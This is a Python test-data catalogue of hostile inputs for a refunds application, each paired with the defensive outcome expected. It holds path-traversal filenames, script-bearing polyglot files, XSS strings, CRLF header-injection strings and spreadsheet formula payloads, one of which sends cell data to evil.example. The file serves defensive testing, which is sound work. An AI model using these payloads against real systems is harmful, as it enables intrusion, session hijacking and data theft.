"""The bad-input catalogue: hostile inputs, each with the outcome the application must produce.

Data only; ``test_catalogue.py`` feeds every entry to the real services and views. Add a case here
when a new input path or a new trick turns up - the test picks it up by its kind.

Outcomes:
- ``refused``: a clear error naming the rule; nothing stored (agents' uploads are judged by their
  sniffed content against the allowlist, refunds/documents.py).
- ``stored_safely``: accepted, stored inside MEDIA_ROOT under the request's folder, with no path
  component of the given name surviving.
- ``download_only``: accepted, but only ever sent as an attachment with ``nosniff`` (never
  rendered inline on the console's origin, never from /media/).
- ``neutralised``: written to a CSV/XLSX cell with a leading apostrophe, so a spreadsheet shows
  text instead of running a formula.
- ``no_header``: the payload never becomes a header of its own (no CR/LF reaches a header).
- ``escaped``: rendered in the admin as text (``&lt;script&gt;``), never as markup.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Case:
    name: str
    kind: str  # oversized | filename | polyglot | csv | header | html
    payload: str | bytes
    expected: str
    content_type: str = "application/octet-stream"


MB = 1024 * 1024

OVERSIZED = [
    # Sizes relative to MAX_DOCUMENT_BYTES (the test adds them to the limit).
    Case("one byte over the document limit", "oversized", b"\x01", "refused"),
    Case("a megabyte over the document limit", "oversized", b"\x00" * MB, "refused"),
]

FILENAMES = [
    Case("unix parent traversal", "filename", "../../../../etc/passwd", "stored_safely"),
    Case("windows parent traversal", "filename", "..\\..\\..\\windows\\win.ini", "stored_safely"),
    Case("absolute unix path", "filename", "/etc/cron.d/evil", "stored_safely"),
    Case("traversal inside a folder name", "filename", "docs/../../../settings.py", "stored_safely"),
    Case("NUL byte before an executable extension", "filename", "invoice.pdf\x00.exe", "refused"),
    Case("newline in the name", "filename", "receipt\r\n.png", "stored_safely"),
    Case("only dots", "filename", "..", "stored_safely"),
]

POLYGLOTS = [
    Case("GIF header followed by a script", "polyglot", b"GIF89a/*\x00*/=1;<script>alert(document.domain)</script>",
         "download_only", "image/gif"),
    Case("PNG that is also HTML", "polyglot", b"\x89PNG\r\n\x1a\n<html><script>alert(1)</script></html>",
         "download_only", "image/png"),
    Case("PDF with an HTML body", "polyglot", b"%PDF-1.4\n<html><body onload=alert(1)></body></html>\n%%EOF",
         "download_only", "application/pdf"),
    Case("HTML page named like a receipt", "polyglot", b"<!doctype html><script>fetch('/admin/')</script>",
         "refused", "text/html"),
    Case("SVG with a script", "polyglot",
         b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "refused", "image/svg+xml"),
]

CSV_INJECTION = [
    Case("hyperlink formula", "csv", '=HYPERLINK("https://evil.example/?x="&A1,"Refund status")', "neutralised"),
    Case("plus command", "csv", "+cmd|' /C calc'!A0", "neutralised"),
    Case("minus arithmetic", "csv", "-2+3+cmd|' /C calc'!A0", "neutralised"),
    Case("at-sign function", "csv", "@SUM(1+9)*cmd|' /C calc'!A0", "neutralised"),
    Case("tab then formula", "csv", "\t=1+1", "neutralised"),
    Case("carriage return then formula", "csv", "\r=1+1", "neutralised"),
]

HEADER_INJECTION = [
    Case("CRLF and a cookie in a download name", "header", 'receipt"\r\nSet-Cookie: session=attacker\r\n.pdf',
         "no_header"),
    Case("LF and a location in a download name", "header", "r.pdf\nLocation: https://evil.example/", "no_header"),
    Case("CRLF and Bcc in a requester address", "header", "customer@example.com\r\nBcc: attacker@evil.example",
         "no_header"),
]

HTML = [
    Case("script tag", "html", '<script>alert("xss")</script>', "escaped"),
    Case("image with an error handler", "html", '"><img src=x onerror=alert(1)>', "escaped"),
]

ALL = [*OVERSIZED, *FILENAMES, *POLYGLOTS, *CSV_INJECTION, *HEADER_INJECTION, *HTML]


def by_kind(kind: str) -> list[Case]:
    return [case for case in ALL if case.kind == kind]
